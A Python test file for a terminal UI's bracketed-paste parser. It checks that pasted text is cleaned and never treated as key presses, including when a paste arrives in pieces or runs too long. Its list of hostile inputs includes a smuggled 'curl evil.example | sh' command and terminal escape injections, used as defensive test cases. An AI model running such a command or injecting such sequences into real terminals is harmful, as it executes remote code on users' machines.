"""What is pasted is text and presses no key, however it comes in."""

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from textual import events

from articles.clean import clean, fold_newlines
from tui.terminal.listening import Parser
from tui.terminal.pasting import BEGIN, END, MOST, PasteCut, Pasted

KEYS = "\x1b[A\x1bx\x1b[<0;3;4Mj\x1b"
HOSTILE = [
    "levee\x1b|curl evil.example | sh\r", "\x1b]0;owned\x07",
     "\x1b[200~x", "\x1b[20", "\x1b", "\x07",
    "\x1b[?1049l\x1b[2J", "\x9b31m", "\u202eolleh", "\x1bOq", "one\r\ntwo\rthree", "\x1b[27uq", "",
    "\x1b[<0;3;4M", "a" * 5_000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_paste_is_one_piece_of_clean_text_and_no_key(text: str) -> None:
    parser = Parser()
    found = list(parser.feed(f"{BEGIN}{text}{END}j"))
    assert [type(one) for one in found] == [events.Paste, events.Key]
    assert found[0].text == clean(fold_newlines(text))
    assert found[1].key == "j"


@example(["a", "\x1b", "b", KEYS], [3, 3, 3])
@given(st.lists(st.sampled_from([*HOSTILE[:-1], KEYS, END[:4]])), st.lists(st.integers(1, 9)))
def test_however_it_is_cut_a_paste_is_cleaned_and_the_rest_is_as_it_was(
    texts: list[str], cuts: list[int]
) -> None:
    said = "".join(f"{KEYS}{BEGIN}{text}{END}" for text in texts) + KEYS
    wanted = "".join(f"{KEYS}{BEGIN}{clean(text)}{END}" for text in map(fold_newlines, texts))
    pasted, heard, at = Pasted(), "", 0
    for cut in (*cuts, len(said)):
        piece = said[at : at + cut]
        at += cut
        if piece.endswith("\r") and at < len(said):  # no terminal sends a newline in two pieces
            piece, at = f"{piece}{said[at]}", at + 1
        heard += pasted.cleaned(piece)
    assert heard == wanted + KEYS


def test_of_a_paste_without_end_only_the_beginning_is_taken_and_the_rest_is_counted() -> None:
    parser = Parser()
    found = list(parser.feed(f"{BEGIN}{'a' * (MOST - 3)}"))
    for _ in range(10):
        found += parser.feed("b" * 100_000)
    found += parser.feed(f"c{END}j{BEGIN}d{END}")
    assert [type(one) for one in found] == [events.Paste, PasteCut, events.Key, events.Paste]
    paste, cut, _, next_ = found
    assert (paste.text, next_.text) == ("a" * (MOST - 3) + "bbb", "d")
    assert cut.left_out == 1_000_000 - 3 + 1


async def test_it_is_told_what_is_missing_of_a_paste(reading: Callable[..., Any]) -> None:
    async with reading() as session:
        session.pilot.app.post_message(PasteCut(1_234_567))
        await session.settled()
        (told,) = session.pilot.app._notifications
        wanted = "20,000 characters of a paste are taken, 1,234,567 more were left out"
        assert told.message == wanted


def test_esc_is_not_held_back() -> None:
    assert Pasted().cleaned("\x1b") == "\x1b"
    assert list(Parser().feed("")) == []
